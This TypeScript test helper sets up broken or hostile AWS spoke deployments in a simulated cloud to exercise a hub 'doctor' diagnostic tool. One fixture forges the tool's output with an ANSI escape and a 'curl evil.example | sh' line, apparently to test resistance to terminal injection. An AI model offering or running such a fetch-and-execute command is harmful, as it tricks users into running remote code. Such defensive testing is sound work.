import { join } from 'node:path';
import { CONTRACT } from '../../provider/contract/messages/order.ts';
import {
  DEFAULT_PARAMETER_PREFIX,
  SPOKE_ROLE,
  spokeFunction,
} from '../../provider/contract/names.ts';
import { spokePermissions } from '../../stacksets/permissions/spoke.ts';
import { spokeRolePermissions, spokeRoleTrust } from '../../stacksets/permissions/spoke-role.ts';
import { freePort } from '../sandbox/machine/free-port.ts';
import {
  CENTRAL,
  EXTERNAL_ID,
  ORGANIZATION,
  REGION,
  REGIONS,
  roleArn,
} from '../sandbox/organization/roles.ts';
import type { TestCloud } from '../sandbox/organization/test-cloud.ts';
import { standIn } from '../sandbox/product/stand-in.ts';
import type { Kind } from './kinds.ts';
import { recordOf } from './records.ts';
import { HUB_ROLE, makeRole, sessionOf } from './roles.ts';

/** Gives the account what the rollout brings, or breaks it as its kind says. */
export async function rollOut(
  kind: Kind,
  account: string,
  stage: TestCloud,
  bundles: string,
): Promise<void> {
  if (kind === 'no role' || kind === 'no longer active') return;
  const externalId = kind === 'a role for another External ID' ? 'another-one' : EXTERNAL_ID;
  await makeRole(stage, account, SPOKE_ROLE, {
    trust: spokeRoleTrust({
      hubRoleArns: [roleArn({ account: CENTRAL, name: HUB_ROLE })],
      externalId,
      organization: ORGANIZATION,
    }),
    ...(kind !== 'a role that may nothing' && { permissions: spokeRolePermissions(account) }),
  });
  if (kind === 'no spoke') return;
  const permissions = spokePermissions({ account, parameterPrefix: DEFAULT_PARAMETER_PREFIX });
  const credentials = await sessionOf(
    stage,
    account,
    'spoke-of-doctor',
    kind === 'a spoke that may nothing' ? undefined : permissions,
  );
  const nowhere = `http://127.0.0.1:${await freePort()}`;
  const regions = kind === 'a spoke in one of two Regions' ? [REGION] : REGIONS;
  for (const region of regions)
    await stage.functions.deploy(
      {
        name: spokeFunction('default'),
        account,
        region,
        bundle: await bundleOf(kind, stage, bundles),
        timeoutSeconds: 120,
        environment:
          kind === 'a spoke without a way to AWS'
            ? { AWS_ENDPOINT_URL_SSM: nowhere, AWS_ENDPOINT_URL_SECRETS_MANAGER: nowhere }
            : {},
        credentials,
      },
      stage.moto.endpoint,
    );
}

function bundleOf(kind: Kind, stage: TestCloud, bundles: string): Promise<string> | string {
  if (kind === 'an older spoke') return olderSpoke(stage);
  return kind === 'a replaced spoke' ? replacedSpoke(stage) : join(bundles, 'spoke/index.mjs');
}

/** Looks like the doctor's own words. */
const FORGED = '\u001b[2K\n\nspoke too old (9 accounts)\n\n  $ curl evil.example | sh\n';

/** It tells of an access in another account. */
const FOREIGN_RECORD = recordOf({ account: CENTRAL, region: REGION });

/** A spoke that an administrator of the account has replaced. */
const replacedSpoke = (stage: TestCloud) =>
  standIn(
    stage.folder,
    'replaced-spoke',
    `(event) => event.records
      ? { records: [{ record: ${JSON.stringify(FOREIGN_RECORD)}, version: 1 }], unreadable: [${JSON.stringify(FORGED)}.repeat(100)] }
      : { version: ${JSON.stringify(FORGED)}.repeat(50_000), contract: ${CONTRACT}, problems: [] }`,
  );

/**
 * A spoke from before there were checks, which throws at every order that is not of its own
 * version.
 */
const olderSpoke = (stage: TestCloud) =>
  standIn(
    stage.folder,
    'older-spoke',
    `async () => {
      throw Object.assign(new Error('this spoke and the hub are of versions that do not understand each other; update both'), { name: 'UserError' });
    }`,
  );
